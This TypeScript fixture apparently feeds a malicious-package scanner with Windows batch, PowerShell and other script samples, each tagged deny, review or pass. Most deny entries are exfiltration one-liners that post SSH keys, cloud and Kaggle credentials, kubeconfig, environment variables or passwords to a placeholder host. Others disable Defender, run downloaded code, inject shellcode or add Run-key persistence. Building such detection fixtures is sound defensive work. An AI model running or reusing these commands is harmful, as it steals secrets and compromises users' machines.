/** Scripts and shortcuts of Windows that take keys or run what they fetch, and honest ones. All inert. */
import type { Shape } from './malicious.js';

const host = 'https://collect.invalid/u';
const batch = 'demo-1.0.data/scripts/demo-setup.bat';
const shell = 'demo-1.0.data/scripts/demo-setup.ps1';

function one(name: string, tier: Shape['tier'], path: string, text: string): Shape {
  return { name, tier, files: { [path]: text } };
}

export const windowsThieves: readonly Shape[] = [
  one(
    'a key of a service',
    'deny',
    batch,
    `@echo off\r\ncurl -d @%USERPROFILE%\\.kaggle\\kaggle.json ${host}\r\n`,
  ),
  one(
    'all variables, through a file',
    'deny',
    batch,
    `set > %TEMP%\\e.txt\r\ncurl -T %TEMP%\\e.txt ${host}\r\n`,
  ),
  one(
    'an archive',
    'deny',
    batch,
    `tar czf %TEMP%\\x.tgz %USERPROFILE%\\.ssh\r\ncurl --data-binary @%TEMP%\\x.tgz ${host}\r\n`,
  ),
  one(
    'each key in a loop',
    'deny',
    batch,
    `for %%f in (%USERPROFILE%\\.ssh\\id_*) do curl -F f=@%%f ${host}\r\n`,
  ),
  one(
    'a key in a variable',
    'deny',
    shell,
    `$c = Get-Content $HOME\\.kaggle\\kaggle.json -Raw\nInvoke-RestMethod -Uri ${host} -Method POST -Body $c`,
  ),
  one(
    'words that are handed over at once',
    'deny',
    shell,
    `$p = @{ Uri = '${host}'; Method = 'Post'; Body = (Get-Content ~/.kube/config -Raw) }\nInvoke-RestMethod @p`,
  ),
  one(
    'all variables',
    'deny',
    shell,
    `$e = gci env: | Out-String\nInvoke-WebRequest -Uri ${host} -Method POST -Body $e`,
  ),
  one(
    'folders of keys',
    'deny',
    shell,
    `Compress-Archive -Path "$HOME\\.aws" -DestinationPath $env:TEMP\\o.zip\nInvoke-RestMethod ${host} -Method Post -InFile $env:TEMP\\o.zip`,
  ),
  one('the clipboard', 'deny', shell, `irm ${host} -Method Post -Body (Get-Clipboard)`),
  one(
    'a password that is asked for',
    'deny',
    shell,
    `$c = $host.ui.PromptForCredential('a','','','')\nirm ${host} -Method Post -Body $c.GetNetworkCredential().Password`,
  ),
  one(
    'defences off, then a program',
    'deny',
    shell,
    `Add-MpPreference -ExclusionPath $env:TEMP\niwr http://f.invalid/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe`,
  ),
  one(
    'machine code',
    'deny',
    shell,
    '$p = $k::VirtualAlloc(0,0x1000,0x3000,0x40)\n[Runtime.InteropServices.Marshal]::Copy($b,0,$p,4)\n$k::CreateThread(0,0,$p,0,0,0)',
  ),
  one('text that is fetched into a variable', 'review', shell, '$a = irm http://f.invalid/a.ps1\niex $a'),
  one('a name in pieces', 'review', shell, `& ("{1}{0}" -f 'X','IE') $x`),
  one('another name', 'review', shell, 'sal x iex\nx $y'),
  one(
    'a program that a variable names',
    'review',
    shell,
    `$p = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile('http://f.invalid/a.exe', $p)\n& $p`,
  ),
  one('a library on a share', 'review', batch, 'rundll32 \\\\f.invalid\\s\\x.dll,Run\r\n'),
  one(
    'JScript',
    'review',
    'demo/x.js',
    'var h = new ActiveXObject("MSXML2.XMLHTTP");\nnew ActiveXObject("WScript.Shell").Run("a.exe");',
  ),
  one(
    'a shortcut to a share',
    'review',
    'demo/readme.url',
    '[InternetShortcut]\nURL=file://198.51.100.7/share/x.exe\n',
  ),
  one(
    'a registry file',
    'review',
    'demo/x.reg',
    '[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"x"="a.exe"\r\n',
  ),

  one(
    'a request with a key',
    'pass',
    shell,
    '$h = @{ Authorization = "Bearer $env:GITHUB_TOKEN" }\nInvoke-RestMethod -Uri https://api.github.com/user -Headers $h\n',
  ),
  one(
    'a message',
    'pass',
    shell,
    '$b = @{ text = "done" } | ConvertTo-Json\nInvoke-RestMethod -Uri $env:HOOK -Method Post -Body $b\n',
  ),
  one(
    'keys that are put in place',
    'pass',
    shell,
    'New-Item -ItemType Directory "$HOME\\.kaggle" -Force\nCopy-Item kaggle.json "$HOME\\.kaggle\\kaggle.json"\n',
  ),
  one(
    'a tool that is set up',
    'pass',
    batch,
    'if not exist %USERPROFILE%\\.aws\\credentials aws configure\r\ncurl -d done https://h.invalid/x\r\n',
  ),
  one('a link', 'pass', 'demo/docs.url', '[InternetShortcut]\r\nURL=https://docs.invalid/\r\n'),
];
